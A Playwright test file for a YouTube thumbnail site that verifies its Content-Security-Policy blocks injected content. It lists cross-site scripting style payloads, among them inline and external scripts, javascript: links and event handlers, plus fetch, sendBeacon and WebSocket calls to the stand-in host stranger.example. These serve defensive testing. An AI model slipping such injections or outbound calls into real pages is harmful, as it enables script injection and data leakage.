import type { Page } from "@playwright/test";
import { attribute, pages, readPage } from "../support/built-site";
import { cardOf, recordDownloads, generate } from "../support/tool";
import { notFoundError } from "../support/every-page";
import type { PageGuard } from "../support/page-guard";
import { expect, test } from "../fixtures";

const policyOf = (path: string) => {
  const metas = readPage(path).all("meta");
  return attribute(
    metas.find((meta) => attribute(meta, "http-equiv") === "Content-Security-Policy"),
    "content",
  );
};

/** Takes note that the page complained, of what was tried and of all that comes of it. */
async function forgive(page: Page, fence: PageGuard) {
  await page.close();
  fence.consoleErrors.splice(0);
  // Engines tell of a request, too, that they then refuse to send.
  fence.unexpectedRequests.splice(0);
}

for (const path of [...Object.values(pages).map(({ path }) => path), "/404"]) {
  test(`${path} names what it may do, and opens without wanting more`, async ({ page, allowConsoleError }) => {
    if (path === "/404") allowConsoleError(notFoundError);
    const policy = policyOf(path) ?? "";
    expect(policy).toMatch(/^default-src 'none'; script-src ('self' 'sha256-|'none';)/);
    for (const part of ["form-action 'self'", "base-uri 'none'", "require-trusted-types-for 'script'"])
      expect(policy).toContain(part);
    expect(policy).not.toMatch(/unsafe|\*|data:|blob:|http:/);
    const hosts = path === "/" ? ["https://i.ytimg.com", "https://img.youtube.com"] : [];
    expect([...new Set(policy.match(/https:[^ ;]+/g))]).toEqual(hosts);

    await page.goto(path, { waitUntil: "networkidle" });
    await expect(page.locator("meta[http-equiv]")).toHaveAttribute("content", policy);
  });
}

test("the whole tool works within the policy of its page", async ({ page, context, browserName, videoId }) => {
  await page.goto("/");
  const saved = recordDownloads(page);
  await generate(page, videoId);
  const card = cardOf(page, "maxres");
  await card.getByRole("button", { name: "Download" }).click();
  await expect(page.getByText("Downloading maxres thumbnail...")).toBeVisible();
  await page.getByRole("button", { name: "Save all" }).click();
  await expect.poll(() => saved).toEqual(["youtube-thumbnail-maxres.jpg", `youtube-thumbnails-${videoId}.zip`]);

  // Only Chromium lets a test have the clipboard.
  if (browserName !== "chromium") return;
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await card.getByRole("button", { name: "Copy image of maxres thumbnail" }).click();
  await expect(page.getByText("Image copied")).toBeVisible();
});

const RUN = "console.warn('It ran')";

/** What could be smuggled into the text of a page, and the part of the policy that it fails by. */
for (const [what, markup, directive] of [
  ["a script", `<script>${RUN}</script>`, "script-src-elem"],
  ["a script of another host", '<script src="https://stranger.example/a.js"></script>', "script-src-elem"],
  ["a script in a data address", `<script src="data:text/javascript,${RUN}"></script>`, "script-src-elem"],
  ["a handler in an attribute", `<img src="/icon.svg" alt="" onload="${RUN}">`, "script-src-attr"],
  ["a link to a script", `<a href="javascript:${RUN}">Press</a>`, "(script-src-elem|require-trusted-types-for)"],
  ["a style", "<style>body { display: none }</style>", "style-src-elem"],
  ["a style in an attribute", '<p style="position: fixed">', "style-src-attr"],
  ["an image of another host", '<img src="https://stranger.example/a.png" alt="">', "img-src"],
  ["a frame", '<iframe src="/about"></iframe>', "frame-src"],
  ["an object", '<object data="/icon.svg"></object>', "object-src"],
  ["another base for its addresses", '<base href="https://stranger.example/">', "base-uri"],
  ["a form to another host", '<form action="https://stranger.example/"><button>Press</button></form>', "form-action"],
] as const) {
  for (const path of ["/", "/privacy"]) {
    test(`${path} refuses ${what} that was smuggled into it`, async ({ page, pageGuard }) => {
      await page.route(path, async (route) => {
        const html = await (await route.fetch()).text();
        // As from a host that sends no headers of ours: the page protects itself.
        const body = html.replace("<main", `<aside>${markup}</aside><main`);
        await route.fulfill({ body, contentType: "text/html; charset=utf-8" });
      });
      await page.goto(path);
      if (markup.includes("Press")) await page.getByText("Press", { exact: true }).click({ noWaitAfter: true });
      await expect
        .poll(() => pageGuard.consoleErrors.join("\n"))
        .toMatch(new RegExp(`Content-Security-Policy: ${directive} forbids `));
      expect(pageGuard.consoleErrors.filter((text) => text.startsWith("It ran"))).toEqual([]);
      await forgive(page, pageGuard);
    });
  }
}

const SCRIPT = "document.createElement('script')";

/** What a script could try that got into the page in spite of all, and what it fails by. */
for (const [what, attempt, refusal] of [
  ["run text", "eval('1')", "trusted-types-sink"],
  ["make a function of text", "new Function('1')", "trusted-types-sink"],
  ["run text later", "setTimeout('1')", "trusted-types-sink"],
  ["make markup of text", "document.body.innerHTML = '<p>'", "trusted-types-sink"],
  ["write markup", "document.write('<p>')", "trusted-types-sink"],
  ["add a script of text", `${SCRIPT}.text = '1'`, "trusted-types-sink"],
  ["add a script of another host", `${SCRIPT}.src = 'https://stranger.example/a.js'`, "trusted-types-sink"],
  ["add a script that the build did not make", `${SCRIPT}.src = '/robots.txt'`, "trusted-types-sink"],
  ["make rules of its own", "trustedTypes.createPolicy('mine', {})", "trusted-types-policy"],
  ["import from another host", "import('https://stranger.example/a.js')", "script-src-elem"],
  ["start a worker", "new Worker('/robots.txt')", "trusted-types-sink"],
  ["fetch from another host", "fetch('https://stranger.example/')", "connect-src"],
  ["send word to another host", "navigator.sendBeacon('https://stranger.example/')", "connect-src"],
  ["open a line to another host", "new WebSocket('wss://stranger.example/')", "connect-src"],
  ["ask another host for an image", "new Image().src = 'https://stranger.example/a.png'", "img-src"],
] as const) {
  test(`no script can ${what}`, async ({ page, pageGuard }) => {
    // Not in page.evaluate itself: what that runs is free to use eval.
    await page.addInitScript(`addEventListener("attempt", () => setTimeout(() => { ${attempt} }))`);
    await page.goto("/");
    test.skip(!(await page.evaluate(() => "trustedTypes" in window)), "this engine has no trusted types yet");
    await page.evaluate(() => dispatchEvent(new Event("attempt")));
    await expect.poll(() => pageGuard.consoleErrors.join("\n")).toContain(refusal);
    await forgive(page, pageGuard);
  });
}

test("the policy of each page lets the browser read the manifest", async ({ page, browserName }) => {
  test.skip(browserName !== "chromium", "only Chromium tells what it read");
  const session = await page.context().newCDPSession(page);
  for (const path of ["/", "/privacy"]) {
    await page.goto(path);
    const { data } = await session.send("Page.getAppManifest");
    expect(JSON.parse(data ?? "null"), path).toMatchObject({ name: "Thumbfive" });
  }
});

test("no other site can show a page of this one in a frame", async ({ page, baseURL, pageGuard }) => {
  await page.setContent(`<iframe src="${baseURL}/privacy"></iframe>`);
  await expect.poll(() => pageGuard.consoleErrors.join("\n")).toContain("frame-ancestors");
  await expect(page.frameLocator("iframe").getByRole("heading")).toHaveCount(0);
  await forgive(page, pageGuard);
});
